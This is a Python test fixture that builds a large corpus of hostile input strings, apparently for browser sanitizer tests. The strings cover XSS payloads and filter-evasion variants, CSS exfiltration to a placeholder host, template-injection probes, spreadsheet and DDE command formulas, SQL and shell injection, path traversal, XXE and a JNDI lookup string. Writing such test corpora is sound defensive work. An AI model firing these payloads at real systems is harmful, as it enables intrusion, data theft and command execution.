"""Hostile texts, most of them put together from parts: some run or leave something behind where
they are taken for HTML, the others are harmless as HTML and hostile to something else."""

import base64
import itertools

from tests.browser.xss_texts import BREAKOUT, CHOSEN, CHOSEN_LIVE, SUM

_IMAGE = "<img src=x onerror=alert(1)>"
_QUOTED = "&lt;img src=1 onerror=alert(1)&gt;"
# Elements that call a handler as soon as they are there.
_BY_ITSELF = (
    "<svg/onload={}>", "<img src=x onerror={}>", "<image src=x onerror={}>",
    "<img src=x: onerror={}>", "<img srcset=x onerror={}>", "<IMG SRC=x ONERROR={}>",
    "<img/src=x\tonerror\n=\r{}>", "<img\x0csrc=x\x0conerror={}>", "<img src=x onerror={} /",
    "<img src onerror={}>", "<video src=x onerror={}>", "<video src=x onloadstart={}>",
    "<audio src=x onerror={}>", "<picture><source srcset=x><img onerror={}></picture>",
    "<details open ontoggle={}>x", "<input autofocus onfocus={}>",
    "<input type=image src=x onerror={}>",
    "<select autofocus onfocus={}></select>", "<textarea autofocus onfocus={}></textarea>",
    "<button autofocus onfocus={}>x", "<a href=x autofocus onfocus={}>x</a>",
    "<x tabindex=1 autofocus onfocus={}>", "<p contenteditable autofocus onfocus={}>x",
    "<p tabindex=1 autofocus onfocusin={}>x", "<body onpageshow={}>", "<iframe onload={}></iframe>",
    "<iframe srcdoc=x onload={}></iframe>", "<object data=x onerror={}></object>",
    "<embed src=data:image/svg+xml, onload={}>", "<link rel=stylesheet href=data:, onload={}>",
    "<link rel=preload as=image href=data:, onerror={}>", "<script src=data:, onload={}></script>",
    "<script src=x: onerror={}></script>", "<style onload={}></style>",
    "<style>@keyframes k{{}}</style><p style=animation-name:k onanimationstart={}>",
    "<svg><set onbegin={} attributeName=x dur=1s>",
    "<svg><animateTransform onbegin={} attributeName=x>",
    "<svg><animateMotion onbegin={} dur=1s>", "<svg><animate onend={} attributeName=x dur=1ms>",
    "<svg><image href=x onerror={}>", "<svg><style onload={}></style></svg>",
    "<svg><foreignObject><img src=x onerror={}>", "<svg><desc><svg onload={}>",
    "<math><mi><img src=x onerror={}>", "<table><td background=x><img src=x onerror={}>",
    "<marquee onstart={}>x</marquee>", "<object><img src=x onerror={}></object>",
    "<template shadowrootmode=open><img src=x onerror={}></template>",
)  # fmt: skip
# Ways to say alert(1) that have no blanks, for where a filter knows the word.
_CALLS = (
    "alert`1`", "(alert)(1)", "alert?.(1)", "window['al'+'ert'](1)", "self[`alert`](1)",
    "top[/al/.source+/ert/.source](1)", "\\u0061lert(1)", "\\u{61}lert(1)", "&#97;lert(1)",
    "&#x61;lert(1)", "&#0000097lert(1)", "alert&lpar;1&rpar;", "eval('ale'+'rt(1)')",
    "eval(atob('YWxlcnQoMSk='))", "setTimeout('alert(1)')", "Function('alert(1)')()",
    "[1].find(alert)", "new/**/Function`alert\\x281\\x29```",
    "import('data:text/javascript,alert(1)')",
    "[]['map']['constructor']('alert(1)')()", "{{alert(1)}}", "\"alert(1)\"", "'alert(1)'",
    "Reflect.apply(alert,null,[1])", "globalThis.alert(1)", "location='javascript:alert(1)'",
    "(x=>x(1))(alert)", "alert.call(null,1)", "void/**/alert(1)", "-alert(1)",
)  # fmt: skip
# Handlers that wait for somebody: seen by what they leave behind.
_WAITING = (
    "abort", "auxclick", "beforecopy", "beforecut", "beforeinput", "beforepaste", "beforetoggle",
    "blur", "cancel", "change", "click", "close", "contextmenu", "copy", "cut", "dblclick", "drag",
    "dragend", "dragenter", "dragleave", "dragover", "dragstart", "drop", "formdata",
    "fullscreenchange",
    "gotpointercapture", "input", "invalid", "keydown", "keypress", "keyup", "lostpointercapture",
    "mousedown", "mouseenter", "mouseleave", "mousemove", "mouseout", "mouseover", "mouseup",
    "mousewheel", "paste", "pointercancel", "pointerdown", "pointerenter", "pointerleave",
    "pointermove", "pointerout", "pointerover", "pointerrawupdate", "pointerup", "reset", "resize",
    "scroll", "scrollend", "search", "securitypolicyviolation", "select", "selectionchange",
    "selectstart", "slotchange", "submit", "touchstart", "transitionend", "webkitanimationend",
    "wheel",
)  # fmt: skip
# What a text may stand in, ended.
_ENDS = (
    "\">", "'>", " >", "\"/>", "'\">", "</title>", "</textarea>", "</style>", "</script>",
    "</noscript>", "</template>", "</select>", "</option></select>", "</iframe>", "</noembed>",
    "</noframes>", "</xmp>", "</pre>", "</svg>", "</math>", "</table>", "</button>", "</dialog>",
    "-->", "--!>", "]]>", "?>", "%>", "\\\">", "\\'>", "\"'`>", "`>", "*/</style>",
    "</bdi></p></li></ul>", "</th></td></tr></table>",
)  # fmt: skip
_RUNNING = ("<script>alert(1)</script>", "<svg onload=alert(1)>")
_QUOTES = ('"', "'", "\"'", "'\"")
_IN_TAGS = (
    "autofocus onfocus=alert(1)", "autofocus tabindex=1 onfocus=alert(1)", "onclick=alert(1)",
    "onmouseover=alert(1)", "style=position:fixed;inset:0 onmousemove=alert(1)",
    "style=background:url(//x.test)",
    "style=content-visibility:auto oncontentvisibilityautostatechange=alert(1)",
    "style=animation:x onanimationstart=alert(1)", "popover ontoggle=alert(1)",
    "accesskey=x onclick=alert(1)",
    "formaction=javascript:alert(1)", "srcdoc=<script>alert(1)</script>",
)  # fmt: skip
_URLS = (
    "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "java\r\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)", "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)",
    "javascript&colon;alert(1)", "java&Tab;script:alert(1)", "javascript&NewLine;:alert(1)",
    "javascript://x.test/%0aalert(1)", "javascript:/*x*/alert(1)", "javascript:%61lert(1)",
    "javascript:void alert(1)", "javascript:'<script>alert(1)</script>'",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "data:,x", "vbscript:MsgBox(1)", "blob:https://x.test/1", "filesystem:https://x.test/x",
    "view-source:https://x.test", "feed:javascript:alert(1)", "jar:https://x.test!/x",
    "file:///etc/passwd",
    "\\\\x.test\\x", "/\\x.test", "/\t/x.test", "///x.test", "https:x.test", "https:///x.test",
    "http://x.test@y.test", "https://x.test:80:80/", "https://[::1]/", "https://2130706433/",
    "https://xn--80ak6aa92e.test", "https://\u0430pple.test", "https://x.test\u3002test",
    "https://x.test/#<script>alert(1)</script>", "https://x.test/?x=</a><script>alert(1)</script>",
    "https://x.test/%22onmouseover=%22alert(1)", "https://x.test/\u2028x",
    "mailto:x@y.test?body=<script>", "ftp://x.test", "tel:1", "sms:1",
    "ms-word:ofe|u|https://x.test",
)  # fmt: skip
_CARRIERS = (
    "<a href='{}'>x</a>", "<iframe src='{}'></iframe>",
    "<form action='{}'><button>x</button></form>",
    "<svg><a xlink:href='{}'><text y=9>x</text></a></svg>", "<math href='{}'>x</math>",
    "<object data='{}'></object>", "<area href='{}'>", "<embed src='{}'>",
)  # fmt: skip
_CARRIED = (
    "javascript:alert(1)", "&#106;avascript&colon;alert(1)", "data:text/html,x", "//x.test/x",
)  # fmt: skip
_STYLES = (
    "<style>*{{background:url({})}}</style>", "<style>@import url({});</style>",
    "<style>@font-face{{font-family:x;src:url({})}}*{{font-family:x}}</style>",
    "<style>input[value^=a]{{background:url({})}}</style>", "<p style='background:url({})'>x</p>",
    "<p style='background:image-set(\"{}\" 1x)'>x</p>",
    "<p style='list-style:url({});display:list-item'>x</p>",
    "<p style='-webkit-mask:url({})'>x</p>", "<p style='cursor:url({}),auto'>x</p>",
    "<p style='width:expression(alert(1));-moz-binding:url({})'>x</p>",
    "<link rel=stylesheet href={}>", "<link rel=prefetch href={}>",
    "<link rel=dns-prefetch href={}>",
    "<svg><style>*{{fill:url({})}}</style></svg>",
)  # fmt: skip
# What parsers make of it at the second reading is not what they made of it at the first.
_TWICE = (
    *(f"<{name}><p title=\"</{name}>{_IMAGE}\">" for name in (
        "noscript", "noembed", "noframes", "iframe", "xmp", "style", "script", "textarea", "title",
        "svg><style", "math><style", "svg><title", "svg><textarea", "math><xmp", "select><style",
    )),
    f"<form><math><mtext></form><form><mglyph><style></math>{_IMAGE}",
    f"<svg></p><style><a id=\"</style>{_IMAGE}\">",
    f"<math><mi><table><mglyph><style><!--</style><img title=\"--&gt;{_QUOTED}\">",
    f"<math><annotation-xml encoding=text/html><style>{_IMAGE}</style>",
    f"<svg><style>{_IMAGE}</style>",
    f"<svg><title>{_IMAGE}</title>", f"<svg><desc><style>{_IMAGE}</style>{_IMAGE}",
    f"<select><template><style><!--</style><a rel=\"--></style></template></select>{_IMAGE}\">",
    f"<table><select><svg><style>{_IMAGE}</style>{_IMAGE}",
    f"<svg><p><style><!--</style>{_IMAGE}--></style>",
    f"<x/><title></svg>{_IMAGE}</title>{_IMAGE}", f"<![CDATA[><x y=\"]]>{_IMAGE}\">",
    f"<?x {_IMAGE}?>{_IMAGE}",
    f"<!x {_IMAGE}>{_IMAGE}", f"</ {_IMAGE}>{_IMAGE}", f"<!--{{--!>{_IMAGE}", f"<!--->{_IMAGE}-->",
    f"<a/a=\"><b\">{_IMAGE}",
    f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style>{_IMAGE}\">",
    f"<b><p><b><p><b><p></b></b></b>{_IMAGE}",
    f"<template><template></template>{_IMAGE}</template>{_IMAGE}",
    f"<frameset><frame src=javascript:alert(1)></frameset>{_IMAGE}",
    f"<plaintext/>{_IMAGE}</plaintext><x onclick=alert(1)>",
)  # fmt: skip
_IN_SCRIPTS = (
    "';alert(1)//", "\";alert(1)//", "'-alert(1)-'", "\"-alert(1)-\"",
   
    "${alert(1)}", "`;alert(1)//", "'+alert(1)+'", "');alert(1);('",
    "</script ><script >alert(1)</script >",
    "</script/x><svg/onload=alert(1)>", "<!--<script>'</script><script>alert(1)</script>",
    "'};alert(1);{'", "\u2028';alert(1)//", "&apos;);alert(1)//", "&#39;);alert(1);(&#39;",
)  # fmt: skip
_POLYGLOTS = (
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "\"onclick=alert(1)//<button ' onclick=alert(1)//> */ alert(1)//<svg onload=alert(1)>",
    "';alert(1)//\";alert(1)//--></script>\">'><script>alert(1)</script>",
    "</noscript></title></textarea></style></template></noembed></script>"
    "\"'--!><svg onload=alert(1)>",
    "<svg onload=alert(1)>{{7*7}}${7*7}<%=7*7%>#{7*7}'\"`--=cmd|x!A1",
    "<img src=x onerror=alert(1)>\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
    "-->'\"/></sCript><svG x=\">\" onload=(co\\u006efirm)``><svg onload=alert(1)>",
)  # fmt: skip
_SMUGGLED = (
    "<scr\x01ipt>alert(1)</scr\x01ipt><svg onload=alert(1)>", "\ufeff<svg onload=alert(1)>",
    "<svg\u00a0onload=alert(1)><svg onload=alert(1)>", "\u202e<svg onload=alert(1)>\u202c",
    "\x1b$B<svg onload=alert(1)>\x1b(B", "\u2066<svg onload=alert(1)>\u2069",
    "<ScRiPt >alert(1)</sCrIpT\t>",
    "<script\n>alert(1)</script\n>", "<svg/onload\x0b=1><svg\x0conload=alert(1)>",
    "\u0301" * 9 + "<svg onload=alert(1)>",
)  # fmt: skip
LIVE = tuple(dict.fromkeys((
    *CHOSEN_LIVE, BREAKOUT,
    *(each.format("alert(1)") for each in _BY_ITSELF),
    *(f"<img src=x onerror={call}>" for call in _CALLS),
    *(f"<b on{name}=alert(1)>x</b>" for name in _WAITING),
    *(end + runs for end, runs in itertools.product(_ENDS, _RUNNING)),
    *(f"{quote} {tag} {quote[-1]}" for quote, tag in itertools.product(_QUOTES, _IN_TAGS)),
    *_URLS,
    *(each.format(url) for each, url in itertools.product(_CARRIERS, _CARRIED)),
    *(each.format("//x.test/x") for each in _STYLES),
    *_TWICE, *_IN_SCRIPTS, *_POLYGLOTS, *_SMUGGLED,
)))  # fmt: skip

_SHIFTED = "<svg onload=alert(1)>"
INERT = {
    "templates": (
        f"{{{{{SUM}}}}}", f"{{%print({SUM})%}}", f"{{{{{SUM}|safe}}}}", "{{config}}", "{{self}}",
        "{{request}}",
        "{{cycler.__init__.__globals__}}", "{{lipsum.__globals__['os']}}",
        "{% extends 'frame.html' %}",
        "{% raw %}", "{# x #}", "{%- if 1 -%}", "{% autoescape false %}", "{% endblock %}",
        "{{ super() }}",
        f"*{{{SUM}}}", f"@({SUM})", f"[[{SUM}]]", f"~[{SUM}]", f"{{{{={SUM}}}}}",
        f"{{{{{{{SUM}}}}}}}",
        f"#set($x={SUM})$x", f"<#assign x={SUM}>${{x}}", f"{{php}}echo {SUM};{{/php}}",
        f"{{{{#with {SUM}}}}}",
        "{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}",
        f"%{{{SUM}}}",
        "%s%s%s%n", "%(name)s", "{0.__class__}", "{visitor.form_token}", "$name ${name}",
        f"$({SUM})", f"`{SUM}`",
    ),
    "spreadsheets": (
        "=1+1", "+1+1", "-1+1", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
        "=HYPERLINK(\"//x.test\",\"x\")",
        "=IMPORTXML(\"//x.test\",\"/\")", "=WEBSERVICE(\"//x.test\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\uff1d1+1",
        "\uff0b1", "\uff0d1",
        "\uff201", "\"=1+1", "\"\";=1+1", ";=1+1;", "|=1+1|", "'=1+1", "%0A=1+1", "\u200b=1+1",
    ),
    "encodings": (
        "&lt;svg onload=alert(1)&gt;", "&#60;svg onload=alert(1)&#62;",
        "&#x3c;svg onload=alert(1)&#x3e;",
        "&amp;lt;svg onload=alert(1)&amp;gt;", "&LT;svg onload=alert(1)&GT;",
        "%3Csvg%20onload=alert(1)%3E",
        "%253Csvg%2520onload=alert(1)%253E", "%u003Csvg onload=alert(1)%u003E",
        "\\u003csvg onload=alert(1)\\u003e",
        "\\x3csvg onload=alert(1)\\x3e", "\\74svg onload=alert(1)\\76",
        "\\3c svg onload=alert(1)\\3e ",
        "%c0%bcsvg onload=alert(1)%c0%be", "\uff1csvg onload=alert(1)\uff1e",
        "\u2039svg onload=alert(1)\u203a",
        "\u02c2svg onload=alert(1)\u02c3", "\ufe64svg onload=alert(1)\ufe65",
        "\u226esvg onload=alert(1)\u226f",
        "+ADw-svg onload=alert(1)+AD4-", "+/v8-+ADw-svg onload=alert(1)+AD4-",
        "\xbcsvg onload=alert(1)\xbe",
        "".join(f"&#{ord(letter)};" for letter in _SHIFTED),
        "".join(f"%{ord(letter):02x}" for letter in _SHIFTED),
        "".join(f"\\u{ord(letter):04x}" for letter in _SHIFTED),
        base64.b64encode(_SHIFTED.encode()).decode(),
        "".join(chr(0xE0000 + ord(letter)) for letter in _SHIFTED),
        "".join(chr(0xFEE0 + ord(letter)) for letter in "<svg/onload>"),
    ),
    "bidi and marks": (
        "\u202ax\u202c", "\u202bx\u202c", "\u202dx\u202c", "\u202ex", "\u2066x", "\u2067x",
        "\u2068x", "\u2069", "\u200e\u200f\u061c",
        "\u2028x", "\u2029x", "\u0085x", "\u200bx", "\u200c\u200d\u2060", "\ufeffx", "\u00adx",
        "\u180ex", "\u3164", "\u2800", "\u115f\u1160",
        "\u0300\u0301\u0302" * 9, "\u20dd\u20e3", "\ufdfd" * 9,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U000e0001\U000e0020",
        "\ufff9x\ufffay\ufffb", "\ufffd\ufffe\uffff", "\ue000\U0010ffff",
        "i\u0307\u0131\u212a\u017f", "\u1e9e\ufb03",
    ),
    "controls": (
        "\x01\x02\x03", "\x07\x08\x0b\x0c", "\x1b[2J\x1b[31m", "\x1b]0;x\x07", "\x7f\x80\x9b31m",
        "\x1a\x04", "\r\nSet-Cookie: x=1",
        "\r\n\r\n<x", "%0d%0aLocation:%20//x.test", "x\nlevel=error y", "\x1e\x1f\x1d",
    ),
    "escaped by half": ("\\';alert(1)//", "\\\";alert(1)//", "\\\\';alert(1)//"),
    "other languages": (
        "' OR 1=1--", "\" OR \"\"=\"", "'; DROP TABLE tickets;--", "1) UNION SELECT 1--",
        "\\'; SELECT 1--", "x' AND sleep(9)--",
        "$(id)", "`id`", ";id", "|id", "&& id", "../../../etc/passwd", "..%2f..%2f", "C:\\x",
        "(&(uid=*))", "*)(uid=*",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "{\"$gt\":\"\"}", "__proto__",
        "constructor", "null", "undefined",
        "NaN", "true", "-0", "1e309", "[x](javascript:alert(1))", "![x](//x.test)",
        "[[x|//x.test]]", "${jndi:ldap://x.test/x}",
    ),
}  # fmt: skip
CORPUS = tuple(dict.fromkeys((*CHOSEN, *LIVE, *itertools.chain(*INERT.values()))))
